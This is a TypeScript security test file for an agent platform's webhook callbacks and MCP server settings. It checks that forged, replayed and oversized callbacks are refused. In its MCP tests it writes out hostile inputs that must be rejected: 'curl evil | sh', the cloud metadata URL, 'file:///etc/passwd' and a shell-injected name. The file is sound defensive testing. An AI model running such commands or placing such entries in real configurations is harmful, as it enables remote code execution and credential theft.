/**
 * Attack catalogue, issue 10 rows 5, 6 and part of 10: forging, replaying and moving agent-runtime
 * callbacks between runs; smuggling raw MCP commands or internal URLs to the worker or the external
 * runtime; oversized callback bodies.
 */
import crypto from "node:crypto";
import { SIGNATURE_HEADER, signPayload, signRequest, verifySignature } from "../../src/agent/webhookSignature.js";
import { gql, signToken } from "../helpers/api.js";
import { superuserPool } from "../helpers/db.js";
import { seedTenant } from "../helpers/fixtures.js";
import { runRuns } from "../helpers/runs.js";
import { server, useServer } from "../helpers/harness.js";
import { useRuntimeReceiver } from "../helpers/runtimeReceiver.js";

const SECRET = "security-test-webhook-secret-0123456789abcdef";
useServer({ AGENT_WEBHOOK_SECRET: SECRET });

async function newUser() {
  const token = await signToken({ sub: crypto.randomUUID() });
  const me = await gql(server, "{ allAccounts { nodes { rowId } } }", {}, token);
  return { token, accountId: me.data!.allAccounts.nodes[0].rowId as string };
}

/** A running execution handed to the external runtime: its agent run id is what callbacks name. */
async function runningRun(accountId: string) {
  const client = await superuserPool().connect();
  try {
    const t = await seedTenant(client, accountId);
    const run = await client.query(
      "insert into app_public.agent_runs (account_id, thread_id, agent_id, executor) values ($1, $2, $3, 'webhook') returning id",
      [accountId, t.threadId, t.agentId],
    );
    const e = await client.query(
      "insert into app_public.task_executions (task_id, account_id, thread_id, agent_run_id, status, started_at) values ($1, $2, $3, $4, 'running', now()) returning execution_id",
      [t.taskId, accountId, t.threadId, run.rows[0].id],
    );
    return { agentRunId: run.rows[0].id as string, executionId: e.rows[0].execution_id as string, threadId: t.threadId };
  } finally {
    client.release();
  }
}

function post(agentRunId: string, body: string, signature: string) {
  return fetch(`${server.url}/hooks/agent-runs/${agentRunId}`, {
    method: "POST",
    headers: { "content-type": "application/json", [SIGNATURE_HEADER]: signature },
    body,
  });
}
const path = (id: string) => `/hooks/agent-runs/${id}`;
const signed = (id: string, body: string, secret = SECRET) => signRequest(secret, { method: "POST", path: path(id), body });

async function executionOf(executionId: string) {
  const { rows } = await superuserPool().query("select status, results from app_public.task_executions where execution_id = $1", [
    executionId,
  ]);
  return rows[0];
}
async function messagesIn(threadId: string, content: string) {
  const { rows } = await superuserPool().query("select count(*)::int as n from app_public.messages where thread_id = $1 and content = $2", [
    threadId,
    content,
  ]);
  return rows[0].n as number;
}

describe("webhook callbacks", () => {
  test("a body-only (v1) signature, valid under the old scheme, is refused: callbacks must sign method and path", async () => {
    const a = await newUser();
    const run = await runningRun(a.accountId);
    const body = JSON.stringify({ event_id: "e1", type: "completed", final_answer: "forged" });
    const res = await post(run.agentRunId, body, signPayload(SECRET, body));
    expect(res.status).toBe(401);
    expect((await executionOf(run.executionId)).status).toBe("running");
  });

  test("a signed completion for tenant A's run replayed on tenant B's run is refused (401) and B is untouched", async () => {
    const a = await newUser();
    const b = await newUser();
    const runA = await runningRun(a.accountId);
    const runB = await runningRun(b.accountId);
    const body = JSON.stringify({ event_id: "done-1", type: "completed", final_answer: "A's answer" });
    const sig = signed(runA.agentRunId, body);
    expect((await post(runB.agentRunId, body, sig)).status).toBe(401);
    expect((await executionOf(runB.executionId)).status).toBe("running");
    expect((await post(runA.agentRunId, body, sig)).status).toBe(200);
    expect(await executionOf(runA.executionId)).toMatchObject({ status: "completed", results: { final_answer: "A's answer" } });
  });

  test("replaying the same signed message event on the same run is acknowledged once and applied once", async () => {
    const a = await newUser();
    const run = await runningRun(a.accountId);
    const body = JSON.stringify({ event_id: "msg-1", type: "message", role: "assistant", content: "Looked up order 42" });
    const sig = signed(run.agentRunId, body);
    const first = await post(run.agentRunId, body, sig);
    const again = await post(run.agentRunId, body, sig);
    expect([first.status, again.status]).toEqual([200, 200]);
    expect(await again.json()).toEqual({ ok: true, duplicate: true });
    expect(await messagesIn(run.threadId, "Looked up order 42")).toBe(1);
  });

  test("an event without an event_id is refused (400)", async () => {
    const a = await newUser();
    const run = await runningRun(a.accountId);
    const body = JSON.stringify({ type: "message", role: "assistant", content: "no id" });
    expect((await post(run.agentRunId, body, signed(run.agentRunId, body))).status).toBe(400);
    expect(await messagesIn(run.threadId, "no id")).toBe(0);
  });

  test("a wrong secret, a stale timestamp and a garbage header all get 401", async () => {
    const a = await newUser();
    const run = await runningRun(a.accountId);
    const body = JSON.stringify({ event_id: "x", type: "failed", error: "forged" });
    expect((await post(run.agentRunId, body, signed(run.agentRunId, body, "another-secret-another-secret-another"))).status).toBe(401);
    const stale = signRequest(SECRET, { method: "POST", path: path(run.agentRunId), body }, Math.floor(Date.now() / 1000) - 3600);
    expect((await post(run.agentRunId, body, stale)).status).toBe(401);
    expect((await post(run.agentRunId, body, "t=1,v2=zz")).status).toBe(401);
    expect((await executionOf(run.executionId)).status).toBe("running");
  });

  test("a 3 MB callback body is answered 413, not 500", async () => {
    const a = await newUser();
    const run = await runningRun(a.accountId);
    const body = JSON.stringify({ event_id: "big", type: "message", role: "assistant", content: "x".repeat(3 * 1024 * 1024) });
    const res = await post(run.agentRunId, body, signed(run.agentRunId, body));
    expect(res.status).toBe(413);
  });
});

describe("MCP entries", () => {
  const create = `mutation($m: JSON!) { createAgent(input: { agent: { name: "a", mcpServers: $m } }) { agent { agentId } } }`;
  test.each([
    ["a raw command", [{ name: "x", command: "sh", args: ["-c", "curl evil | sh"] }]],
    ["the cloud metadata service over http", [{ url: "http://169.254.169.254/latest/meta-data/" }]],
    ["a file: URL", [{ url: "file:///etc/passwd" }]],
    ["credentials in the URL", [{ url: "https://user:pw@mcp.example.com/mcp" }]],
    ["a name with shell characters", [{ name: "/bin/sh -c evil" }]],
    ["an entry that is not an object", ["files"]],
  ])("createAgent with %s is refused when written (ST003)", async (_what, servers) => {
    const a = await newUser();
    const res = await gql(server, create, { m: servers }, a.token);
    expect(res.errors?.[0]?.extensions?.code).toBe("ST003");
  });

  test("updateAgent cannot add a raw command later; registry names and https URLs are accepted", async () => {
    const a = await newUser();
    const ok = await gql(server, create, { m: [{ name: "files" }, { name: "search", url: "https://mcp.example.com/mcp" }] }, a.token);
    expect(ok.errors).toBeUndefined();
    const id = ok.data!.createAgent.agent.agentId;
    const upd = await gql(
      server,
      `mutation($id: UUID!, $m: JSON!) { updateAgentByAgentId(input: { agentId: $id, agentPatch: { mcpServers: $m } }) { agent { agentId } } }`,
      { id, m: [{ command: "sh" }] },
      a.token,
    );
    expect(upd.errors?.[0]?.extensions?.code).toBe("ST003");
  });

  describe("the external runtime receives resolved servers only; a refused run is not billed", () => {
    const runtimeReceiver = useRuntimeReceiver();
    const received = runtimeReceiver.received;

    const registry = {
      servers: { files: { command: "npx", args: ["-y", "server-filesystem", "/srv"], env: { TOKEN: "operator-secret" } } },
      allowedHosts: ["mcp.example.com"],
    };
    const webhookRun = () =>
      runRuns(null, { webhook: { url: runtimeReceiver.url, secret: SECRET, publicUrl: server.url, timeoutMs: 5000 }, mcp: registry });

    async function taskWithServers(servers: unknown[]) {
      const a = await newUser();
      const client = await superuserPool().connect();
      let taskId: string;
      try {
        const t = await seedTenant(client, a.accountId);
        await client.query("update app_public.agents set mcp_servers = $2 where agent_id = $1", [t.agentId, JSON.stringify(servers)]);
        taskId = t.taskId;
      } finally {
        client.release();
      }
      const res = await gql(
        server,
        `mutation($id: UUID!) { executeTask(input: { taskId: $id }) { result { executionId } } }`,
        { id: taskId },
        a.token,
      );
      expect(res.errors).toBeUndefined();
      return { ...a, executionId: res.data!.executeTask.result.executionId as string };
    }
    const used = async (accountId: string) =>
      (
        await superuserPool().query("select coalesce(sum(executions), 0)::int as n from app_private.account_usage where account_id = $1", [
          accountId,
        ])
      ).rows[0].n as number;

    test("allowed servers are handed over as {name} / {name, url}: never a command, args or env", async () => {
      const t = await taskWithServers([{ name: "files" }, { url: "https://mcp.example.com/mcp" }]);
      const before = received.length;
      await webhookRun();
      expect(received.length).toBe(before + 1);
      const handOff = received.at(-1)!;
      expect(verifySignature(SECRET, handOff.body, handOff.signature)).toEqual({ ok: true });
      const payload = JSON.parse(handOff.body);
      expect(payload.execution_id).toBe(t.executionId);
      expect(payload.agent.mcpServers).toEqual([{ name: "files" }, { name: "mcp.example.com", url: "https://mcp.example.com/mcp" }]);
      expect(handOff.body).not.toMatch(/npx|operator-secret/);
      expect(payload.callback).toMatchObject({ method: "POST", header: SIGNATURE_HEADER, url: payload.callback_url });
    });

    test("a server the operator did not configure: the run fails before the hand-off and is not billed", async () => {
      const t = await taskWithServers([{ name: "not-configured" }]);
      expect(await used(t.accountId)).toBe(1);
      const before = received.length;
      await webhookRun();
      expect(received.length).toBe(before); // the runtime never heard of it
      const e = await executionOf(t.executionId);
      expect(e).toMatchObject({ status: "failed", results: { refused: true, billed: false } });
      expect(await used(t.accountId)).toBe(0);
    });
  });
});
